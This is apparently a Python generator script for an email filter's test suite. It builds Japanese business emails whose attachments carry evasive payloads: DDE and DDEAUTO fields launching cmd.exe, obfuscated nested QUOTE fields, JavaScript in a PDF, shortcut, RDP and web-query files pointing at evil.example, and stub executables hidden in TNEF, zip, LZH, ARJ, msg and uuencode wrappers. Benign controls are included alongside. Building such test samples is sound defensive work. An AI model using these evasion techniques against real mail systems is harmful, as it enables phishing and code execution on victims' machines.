#!/usr/bin/env python3
"""Generates samples/deny/: default-deny cases (issue 17), written from the
hostile review's class descriptions, not from mugai's code, with benign
controls that must arrive usable.

Run from the repository root: python3 samples/make_deny.py
Anything that would run or fetch when opened is written text-encoded
(<name>.eml.in.zip). Expected verdicts: UPDATE_GOLDEN=1 cargo test, then
review every change.
"""
import hashlib, struct

import io, zipfile

from mailgen import EOL, attachment, load, multipart, text_part, write, zip_of

BODY = "お世話になっております。\n先日の会議の資料です。ご確認ください。\n"


def mail(subject, name, data, ctype="application/octet-stream"):
    head = (f"From: Tanaka Taro <tanaka@example.lg.jp>{EOL}To: suzuki@city.example.lg.jp{EOL}"
            f"Subject: {subject}{EOL}Date: Mon, 07 Dec 2026 09:30:00 +0900{EOL}"
            f"Message-ID: <{hashlib.sha256(name.encode()).hexdigest()[:12]}@example.lg.jp>{EOL}"
            f"MIME-Version: 1.0{EOL}")
    return multipart(head, [text_part(BODY), attachment(name, data, ctype)])


# Office formats that are XML, not zip or OLE: no declaration needed.
WORD2003 = ("<?mso-application progid=\"Word.Document\"?>\n"
            "<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">"
            "<w:body><w:p><w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'>"
            "<w:r><w:t>資料</w:t></w:r></w:fldSimple></w:p></w:body></w:wordDocument>\n")
write("deny", "word2003_xml_dde_named_doc.eml", mail("word 2003 xml", "資料.doc", WORD2003.encode()), dangerous=True)

FLAT_OPC = ("<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
            "<pkg:part pkg:name=\"/word/vbaProject.bin\" pkg:contentType=\"application/vnd.ms-office.vbaProject\">"
            "<pkg:binaryData>0M8R4KGxGuEAAAAAAAAAAAAAAAAAAAAAPgADAP7/CQAGAAAAAAAAAAAAAAAB</pkg:binaryData>"
            "</pkg:part></pkg:package>\n")
write("deny", "flat_opc_vba_named_xml.eml", mail("flat opc", "report.xml", FLAT_OPC.encode()), dangerous=True)

EXCEL2003 = ("<?xml version=\"1.0\"?>\n<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" "
             "xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet ss:Name=\"S\"><Table><Row>"
             "<Cell ss:Formula=\"=cmd|' /c calc'!A0\"><Data ss:Type=\"Number\">0</Data></Cell>"
             "</Row></Table></Worksheet></Workbook>\n")
write("deny", "excel2003_xml_dde.eml", mail("excel 2003 xml", "集計.xls", EXCEL2003.encode()), dangerous=True)

# Markup in UTF-16 with a BOM: sniffed as nothing it knows.
HTML16 = "\ufeff<html><body><script>location='https://evil.example/'</script>請求書</body></html>".encode("utf-16-le")
write("deny", "html_utf16le_bom.eml", mail("utf-16 html", "invoice.html", HTML16, "text/html"), dangerous=True)

# Spreadsheet formulas in text, whatever the name and line ends.
write("deny", "csv_dde_named_txt.eml",
      mail("csv as txt", "list.txt", b"name,amount\r\n=cmd|'/c calc'!A0,1\r\n"), dangerous=True)
write("deny", "csv_dde_cr_only.eml",
      mail("csv cr only", "list.csv", b"name,amount\r=cmd|'/c calc'!A0,1\r"), dangerous=True)
write("deny", "csv_dde_quoted_comma.eml",
      mail("csv quoted", "list.csv", b"name,cmd\n\"a\",\"=cmd|'/c calc,x'!A0\"\n"), dangerous=True)

# Launchers by content, under names no extension list holds.
write("deny", "url_shortcut_named_txt.eml",
      mail("shortcut", "資料.txt", b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\n"),
      dangerous=True)
write("deny", "website_shortcut.eml",
      mail("website", "portal.website",
           b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=https://evil.example/\r\n"),
      dangerous=True)
write("deny", "rdp_file.eml",
      mail("rdp", "会議.rdp", b"screen mode id:i:2\r\nfull address:s:rdp.evil.example\r\n"), dangerous=True)
write("deny", "iqy_web_query.eml",
      mail("iqy", "data.iqy", b"WEB\r\n1\r\nhttps://evil.example/q.html\r\n"), dangerous=True)

# Damaged wrappers: TNEF and zstd magic numbers, then bytes.
TNEF = struct.pack("<IH", 0x223E9F78, 1) + bytes(range(64))
write("deny", "tnef_winmail_dat.eml", mail("tnef", "winmail.dat", TNEF, "application/ms-tnef"), dangerous=True)

# A TNEF stream as Outlook writes it (MS-OXTNEF records with checksums, an
# attachment's long name in its MAPI properties): unpacked into ordinary
# attachments, each judged on its own.
def tnef_record(level, id_, data):
    return bytes([level]) + struct.pack("<II", id_, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)


def tnef_of(files):
    out = bytes([0x78, 0x9F, 0x3E, 0x22]) + struct.pack("<H", 1)
    out += tnef_record(1, 0x00089006, bytes([0, 0, 1, 0]))
    out += tnef_record(1, 0x00069007, struct.pack("<II", 932, 0))
    for name, data in files:
        out += tnef_record(2, 0x00069002, struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0, 0, 0))
        out += tnef_record(2, 0x00018010, name.encode("shift_jis", "replace") + b"\0")
        out += tnef_record(2, 0x0006800F, data)
        utf16 = (name + "\0").encode("utf-16-le")
        props = struct.pack("<IHHII", 1, 0x001F, 0x3707, 1, len(utf16)) + utf16 + b"\0" * (-len(utf16) % 4)
        out += tnef_record(2, 0x00069005, props)
    return out


write("deny", "tnef_with_exe.eml",
      mail("tnef", "winmail.dat", tnef_of([("請求書.exe", b"MZ\x90\x00" + bytes(300)),
                                            ("議事録.txt", "会議は 3 時からです。\n".encode("utf-8"))]),
           "application/ms-tnef"), dangerous=True)
ZSTD = b"\x28\xb5\x2f\xfd" + bytes(range(64))
write("deny", "zstd_stream.eml", mail("zstd", "logs.tar.zst", ZSTD), dangerous=True)

# MHT (a MIME web archive) named .doc, with ActiveMime macro data: Word opens it.
MHT = ("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"----=_NextPart_01\"\r\n\r\n"
       "------=_NextPart_01\r\nContent-Location: file:///C:/D/doc.htm\r\nContent-Type: text/html\r\n\r\n"
       "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><body>資料</body></html>\r\n"
       "------=_NextPart_01\r\nContent-Location: file:///C:/D/editdata.mso\r\n"
       "Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n"
       "QWN0aXZlTWltZQAAAfAEAAAA/////wAAB/AzDwAABAAAAAQAAAA=\r\n------=_NextPart_01--\r\n")
write("deny", "mht_activemime_named_doc.eml", mail("mht", "議事録.doc", MHT.encode()), dangerous=True)

# Wrappers behind a prefix: Adobe reads %PDF- anywhere in the first KB, and
# zip readers find the central directory from the end.
JS_PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
          b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
write("deny", "pdf_after_junk.eml", mail("pdf after junk", "請求書.pdf", b"J" * 1500 + b"\n" + JS_PDF), dangerous=True)
write("deny", "zip_with_prefix.eml",
      mail("zip with prefix", "資料.zip", b"\x00\x01prefix" * 40 + zip_of([("invoice.exe", b"MZ" + bytes(200))])),
      dangerous=True)
# LZH (common in Japan): a level-0 header, `-lh0-` at offset 2.
# Two zips end to end: zip readers open the second (found from the end),
# readers that scan forward the first, which holds the program.
write("deny", "zip_concatenated.eml",
      mail("concatenated zip", "資料.zip",
           zip_of([("請求書.exe", b"MZ" + bytes(200))]) + zip_of([("議事録.txt", "会議は 3 時からです。".encode("utf-8"))])),
      dangerous=True)
# A RAR archive after a zip's end: RAR readers look for their signature.
write("deny", "zip_then_rar.eml",
      mail("zip then rar", "資料.zip",
           zip_of([("議事録.txt", "会議は 3 時からです。".encode("utf-8"))]) + b"Rar!\x1a\x07\x00" + bytes(64)),
      dangerous=True)
LZH = bytes([40, 0]) + b"-lh0-" + struct.pack("<II", 4, 4) + bytes(6) + bytes([11]) + b"invoice.exe" + b"\x00\x00" + b"MZ\x90\x00" + b"\x00"
write("deny", "lzh_archive.eml", mail("lzh", "資料.lzh", LZH), dangerous=True)

# Well-formed LZH (level 0, stored members) and zstd streams, walked as archives.
def crc16(data):
    crc = 0
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ 0xA001 if crc & 1 else crc >> 1
    return crc


def lzh_of(members):
    out = b""
    for name, data in members:
        h = (b"-lh0-" + struct.pack("<II", len(data), len(data)) + bytes(4) + bytes([0x20, 0, len(name)])
             + name + struct.pack("<H", crc16(data)))
        out += bytes([len(h), sum(h) & 0xFF]) + h + data
    return out + b"\x00"


def zstd_of(data):
    import subprocess
    return subprocess.run(["zstd", "-q", "-c", "--no-check"], input=data, capture_output=True, check=True).stdout


PROGRAM = b"MZ" + bytes(200)
write("deny", "lzh_sjis_exe.eml",
      mail("lzh", "資料.lzh", lzh_of([("議事録.txt".encode("shift_jis"), "会議の議事録".encode("shift_jis")),
                                     ("請求書.exe".encode("shift_jis"), PROGRAM)])), dangerous=True)
write("deny", "zstd_exe.eml", mail("zstd", "tool.zst", zstd_of(PROGRAM)), dangerous=True)

# A field whose kind a nested QUOTE field spells at run time, showing an
# inert-looking result: in a docx (complex fields) and in RTF.
def docx_with_body(body):
    base = zipfile.ZipFile(io.BytesIO(load("gen_docx_clean_links_fields.docx", "office")))
    head, _ = base.read("word/document.xml").decode().split("<w:body>")
    document = head + "<w:body>" + body + "</w:body></w:document>"
    return zip_of([(n, document.encode() if n == "word/document.xml" else base.read(n))
                   for n in base.namelist()])


def run(xml):
    return "<w:r>" + xml + "</w:r>"


NESTED = ("<w:p>" + run('<w:fldChar w:fldCharType="begin"/>') + run('<w:fldChar w:fldCharType="begin"/>')
          + run("<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>") + run('<w:fldChar w:fldCharType="separate"/>')
          + run("<w:t>PAGE</w:t>") + run('<w:fldChar w:fldCharType="end"/>')
          + run('<w:instrText xml:space="preserve"> c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>')
          + run('<w:fldChar w:fldCharType="separate"/>') + run("<w:t>資料</w:t>") + run('<w:fldChar w:fldCharType="end"/>')
          + "</w:p>")
write("deny", "docx_nested_quote_dde.eml", mail("nested quote", "資料.docx", docx_with_body(NESTED)), dangerous=True)
RTF_NESTED = (r"{\rtf1\ansi {\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69 65 85 84 79}{\fldrslt PAGE}}"
              r" c:\\windows\\system32\\cmd.exe /k calc}{\fldrslt 資料}}}")
write("deny", "rtf_nested_quote_dde.eml", mail("nested quote rtf", "資料.rtf", RTF_NESTED.encode()), dangerous=True)

# RTF whose DDEAUTO and INCLUDEPICTURE are spelled in \\uN escapes.
def uspell(word, fallback="?"):
    return "".join(f"\\u{ord(c)}{fallback}" for c in word)
RTF_U = ("{\\rtf1\\ansi {\\field{\\*\\fldinst \\uc1" + uspell("DDEAUTO") +
         " c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}{\\fldrslt 資料}}"
         "{\\field{\\*\\fldinst \\uc0" + uspell("INCLUDEPICTURE", " ") +
         " \"\\\\\\\\198.51.100.7\\\\s\\\\a.png\" \\\\d}{\\fldrslt }}}\n")
write("deny", "rtf_unicode_escaped_fields.eml", mail("rtf", "資料.rtf", RTF_U.encode()), dangerous=True)

# A program uuencoded into the text body, which mail clients show as an attachment.
import binascii
def uuencode(name, data):
    lines = [f"begin 644 {name}"] + [binascii.b2a_uu(data[i:i + 45]).decode().rstrip("\n") for i in range(0, len(data), 45)]
    return "\r\n".join(lines + ["`", "end"]) + "\r\n"
UU_BODY = "お世話になっております。\r\n請求書の件です。\r\n\r\n" + uuencode("請求書.exe", b"MZ\x90\x00" + bytes(300))
UU_HEAD = (f"From: Tanaka Taro <tanaka@example.lg.jp>{EOL}To: suzuki@city.example.lg.jp{EOL}"
           f"Subject: uuencode{EOL}Date: Mon, 07 Dec 2026 09:30:00 +0900{EOL}"
           f"Message-ID: <uu-body@example.lg.jp>{EOL}MIME-Version: 1.0{EOL}"
           f"Content-Type: text/plain; charset=utf-8{EOL}Content-Transfer-Encoding: 8bit{EOL}{EOL}")
write("deny", "uuencoded_exe_in_body.eml", UU_HEAD.encode() + UU_BODY.encode(), dangerous=True)

# A message saved as a file and attached as octet-stream (forwarded "as an
# attachment"), holding a program: walked like message/rfc822, rebuilt
# without the program.
def saved_message(subject, parts):
    head = (f"From: Sato Hanako <sato@example.com>{EOL}To: tanaka@example.lg.jp{EOL}"
            f"Subject: {subject}{EOL}Date: Fri, 04 Dec 2026 17:00:00 +0900{EOL}"
            f"Message-ID: <saved-{hashlib.sha256(subject.encode()).hexdigest()[:8]}@example.com>{EOL}"
            f"MIME-Version: 1.0{EOL}")
    return multipart(head, parts)
SAVED = saved_message("請求書", [text_part(BODY), attachment("請求書.exe", b"MZ\x90\x00" + bytes(300))])
write("deny", "eml_as_file_with_exe.eml", mail("forwarded", "転送メール.eml", SAVED), dangerous=True)

# Outlook .msg files (compound files, written by samples/cfb.py): rewritten
# as the MIME message they hold, each part judged on its own.
from cfb import cfb_of, msg_of
MSG_HTML = "<html><body><p>資料です</p><script>location='https://evil.example/'</script></body></html>".encode("utf-8")
write("deny", "msg_with_exe.eml",
      mail("msg", "先日の会議の資料です.msg",
           cfb_of(msg_of("先日の会議の資料です", "資料を添付します。", [("請求書.exe", PROGRAM, 1),
                                                      ("議事録.txt", "会議は 3 時からです。\n".encode("utf-8"), 1)],
                         html=MSG_HTML)),
           "application/vnd.ms-outlook"), dangerous=True)
write("deny", "msg_with_ole_object.eml",
      mail("msg object", "資料.msg",
           cfb_of(msg_of("資料", "資料です。", [("Package", b"\x02\x00run.exe\x00" + PROGRAM, 6)])),
           "application/vnd.ms-outlook"), dangerous=True)
write("deny", "msg_enclosed_msg_with_exe.eml",
      mail("msg in msg", "転送.msg",
           cfb_of(msg_of("転送", "転送します。",
                         [("請求書", lambda at: msg_of("請求書", "請求書です。", [("請求書.pdf.exe", PROGRAM, 1)], prefix=at), 5)])),
           "application/octet-stream"), dangerous=True)

# Messages inside archives: walked, each leaf a member; a message with an
# unwanted part leaves the archive, a clean one stays.
SAVED_EXE = saved_message("請求書", [text_part(BODY), attachment("請求書.exe", b"MZ\x90\x00" + bytes(300))])
write("deny", "zip_with_eml_with_exe.eml",
      mail("zip eml", "資料.zip", zip_of([("転送メール.eml", SAVED_EXE),
                                         ("議事録.txt", "会議は 3 時からです。".encode("utf-8"))])), dangerous=True)
ONE_PART = (f"From: Sato Hanako <sato@example.com>{EOL}Subject: 請求書{EOL}MIME-Version: 1.0{EOL}"
            f"Content-Type: application/octet-stream; name=\"invoice.exe\"{EOL}"
            f"Content-Disposition: attachment; filename=\"invoice.exe\"{EOL}"
            f"Content-Transfer-Encoding: base64{EOL}{EOL}").encode() + __import__("base64").encodebytes(PROGRAM)
write("deny", "zip_with_one_part_eml_exe.eml",
      mail("zip one-part eml", "資料.zip", zip_of([("fwd.eml", ONE_PART),
                                                 ("議事録.txt", "会議は 3 時からです。".encode("utf-8"))])), dangerous=True)
write("deny", "zip_with_msg_with_exe.eml",
      mail("zip msg", "資料.zip",
           zip_of([("会議.msg", cfb_of(msg_of("会議", "資料です。", [("請求書.exe", PROGRAM, 1)]))),
                   ("議事録.txt", "会議は 3 時からです。".encode("utf-8"))])), dangerous=True)

# Archives other than zip lose their unwanted members and arrive as a zip.
def tar_of(members):
    import tarfile
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1796600000
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()
write("deny", "tar_with_exe.eml",
      mail("tar", "資料.tar", tar_of([("資料/議事録.txt", "会議は 3 時からです。".encode("utf-8")),
                                      ("資料/請求書.exe", PROGRAM)])), dangerous=True)

# ARJ archives, written by the arj tool (Debian's `arj`, ARJ32 3.10): stored,
# the LHA-like methods 1-3 and the "fastest" method 4. Names as Japanese
# Windows writes them (Shift_JIS); the archive's own dates are pinned so
# that the file is the same on every run.
def arj_of(members, method):
    import os, subprocess, tempfile, zlib
    with tempfile.TemporaryDirectory() as d:
        names = []
        for name, data in members:
            raw = name.encode("shift_jis")
            path = os.path.join(os.fsencode(d), raw)
            open(path, "wb").write(data)
            os.utime(path, (1796600000, 1796600000))
            names.append(raw)
        out = os.path.join(os.fsencode(d), b"out.arj")
        subprocess.run([b"arj", b"a", b"-m%d" % method, b"-y", out] + names, cwd=d,
                       capture_output=True, check=True)
        arj = bytearray(open(out, "rb").read())
    # Every header's dates (written, accessed, created) pinned, and its
    # byte 7, which ARJ32 fills from the clock too; its CRC written again.
    at, main = 0, True
    while True:
        size = struct.unpack_from("<H", arj, at + 2)[0]
        if size == 0:
            return bytes(arj)
        basic = at + 4
        fixed = arj[basic]
        arj[basic + 7] = 0
        arj[basic + 8:basic + 12] = struct.pack("<I", 0x5B872A00)
        if main:
            arj[basic + 12:basic + 16] = struct.pack("<I", 0x5B872A00)
        elif fixed >= 42:
            arj[basic + 34:basic + 42] = struct.pack("<II", 0x5B872A00, 0x5B872A00)
        struct.pack_into("<I", arj, basic + size, zlib.crc32(bytes(arj[basic:basic + size])))
        at = basic + size + 4
        while (ext := struct.unpack_from("<H", arj, at)[0]) != 0:
            at += 2 + ext + 4
        at += 2
        if not main:
            at += struct.unpack_from("<I", arj, basic + 12)[0]
        main = False
NOTES = ("議事録\n" + "会議は 3 時からです。予算の資料を確認してください。\n" * 40).encode("utf-8")
write("deny", "arj_with_exe.eml",
      mail("arj", "資料.arj", arj_of([("議事録.txt", NOTES), ("請求書.exe", PROGRAM)], 1)), dangerous=True)
write("deny", "arj_fastest_with_script.eml",
      mail("arj fastest", "資料.arj",
           arj_of([("議事録.txt", NOTES), ("run.js", b"WScript.CreateObject('WScript.Shell').Run('calc')")], 4)),
      dangerous=True)

# Benign controls: these arrive as they came.
write("deny", "control_text_with_bracket_heading.eml",
      mail("control text", "お知らせ.txt", "<お知らせ>\n会議は 3 時からです。\n[会議室]\nURL: https://example.lg.jp/\n".encode("utf-8"),
           "text/plain; charset=utf-8"))
write("deny", "control_lzh_text.eml",
      mail("control lzh", "議事録.lzh", lzh_of([("議事録.txt".encode("shift_jis"), "会議は 3 時からです。".encode("shift_jis"))])))
write("deny", "control_zstd_text.eml",
      mail("control zstd", "notes.txt.zst", zstd_of("会議は 3 時からです。\n".encode("utf-8"))))
write("deny", "control_eml_as_file.eml",
      mail("control forwarded", "転送メール.eml",
           saved_message("議事録", [text_part(BODY), attachment("議事録.txt", "会議は 3 時からです。\n".encode("utf-8"), "text/plain; charset=utf-8")])))
write("deny", "control_docx_trailing_bytes.eml",
      mail("control docx", "議事録.docx", load("ot_harmless-clean.docx") + b"\r\n\x00trailing"))
write("deny", "control_tnef_text.eml",
      mail("control tnef", "winmail.dat", tnef_of([("議事録.txt", "会議は 3 時からです。\n".encode("utf-8"))]),
           "application/ms-tnef"))
write("deny", "control_csv_with_formulas.eml",
      mail("control csv", "集計.csv", "品目,金額\n用紙,1200\n合計,=SUM(B2:B2)\n".encode("utf-8"), "text/csv"))
write("deny", "control_msg_text.eml",
      mail("control msg", "議事録.msg",
           cfb_of(msg_of("議事録", "議事録を添付します。", [("議事録.txt", "会議は 3 時からです。\n".encode("utf-8"), 1)])),
           "application/vnd.ms-outlook"))
write("deny", "control_zip_with_eml.eml",
      mail("control zip eml", "転送.zip",
           zip_of([("転送メール.eml", saved_message("議事録", [text_part(BODY), attachment(
               "議事録.txt", "会議は 3 時からです。\n".encode("utf-8"), "text/plain; charset=utf-8")]))])))
write("deny", "control_arj_text.eml", mail("control arj", "議事録.arj", arj_of([("議事録.txt", NOTES)], 2)))
